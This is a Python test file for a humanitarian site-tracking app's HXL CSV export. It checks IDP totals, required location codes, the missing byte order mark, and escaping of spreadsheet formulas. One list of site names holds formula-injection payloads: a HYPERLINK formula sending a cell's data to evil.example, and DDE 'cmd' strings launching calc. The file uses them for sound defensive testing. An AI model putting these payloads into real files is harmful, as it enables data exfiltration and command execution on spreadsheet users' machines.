"""The HXL CSV as OCHA's and DTM's pipelines read it: libhxl, tags of the HXL dictionary,
no double counting, no formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import hxl
from django.urls import reverse

from sitetrack.core.testing import BaseCase
from sitetrack.reports.renderers.hxl import render_hxl, safe_text
from sitetrack.reports.selectors import weekly_report
from sitetrack.reports.tests.fixtures import build_weekly_fixture

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
]


def dataset(content: bytes):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    return hxl.data(rows, hxl.InputOptions(allow_local=True))


class HxlExportTests(BaseCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        build_weekly_fixture(cls)

    def test_libhxl_sums_idps_by_admin1_without_counting_last_known_figures(self):
        content = render_hxl(weekly_report(self.round2, language="en"))
        totals = {
            row[0]: row[1]
            for row in dataset(content)
            .count("#adm1+code", "sum(#affected+idps+ind)")
            .gen_raw(show_headers=False)
        }
        # M'Poko and Don Bosco in CF71 (Bangui), Boy-Rabe in CF71 too; Bimbo (CF11) is
        # only known from round 1: its 300 people are not this round's.
        self.assertEqual(totals["CF71"], 1200 + 450 + 800)
        self.assertIn(totals.get("CF11"), ("", 0, None))
        last_known = dataset(content).count("#adm1+code", "sum(#population+x_lastknown+ind)")
        by_area = {row[0]: row[1] for row in last_known.gen_raw(show_headers=False)}
        self.assertEqual(by_area["CF11"], 300)

    def test_every_row_carries_the_country_and_admin1_codes(self):
        rows = list(dataset(render_hxl(weekly_report(self.round2, language="en"))))
        self.assertEqual(len(rows), 4)
        for row in rows:
            self.assertEqual(row.get("#country+code"), "CF")
            self.assertTrue(row.get("#country+name"))
            self.assertTrue(row.get("#adm1+code"))
            self.assertTrue(row.get("#adm2+code"))

    def test_the_file_starts_with_the_header_not_a_byte_order_mark(self):
        self.login(self.imani)
        response = self.client.get(reverse("reports:weekly-download", args=[2, "hxl"]), {"lang": "en"})
        self.assertEqual(response.status_code, 200)
        self.assertFalse(response.content.startswith(b"\xef\xbb\xbf"))
        self.assertEqual(dataset(response.content).columns[0].display_tag, "#country+code")

    def test_site_names_that_look_like_formulas_are_written_as_text(self):
        for n, name in enumerate(HOSTILE_NAMES):
            site = getattr(self, ["mpoko", "boy_rabe", "don_bosco", "bimbo_site"][n])
            site.name = name
            site.save()
        content = render_hxl(weekly_report(self.round2, language="en")).decode("utf-8")
        names = [r[7] for r in list(csv.reader(io.StringIO(content)))[2:]]
        for name in HOSTILE_NAMES:
            self.assertIn("'" + name, names)
        for name in names:
            self.assertFalse(name.startswith(("=", "+", "-", "@")), name)
        # Numbers stay numbers: a negative change is not quoted.
        self.assertIn("-50", [c for r in csv.reader(io.StringIO(content)) for c in r])

    def test_safe_text_leaves_ordinary_text_alone(self):
        self.assertEqual(safe_text("Site de Bimbo"), "Site de Bimbo")
        self.assertEqual(safe_text("=1+1"), "'=1+1")
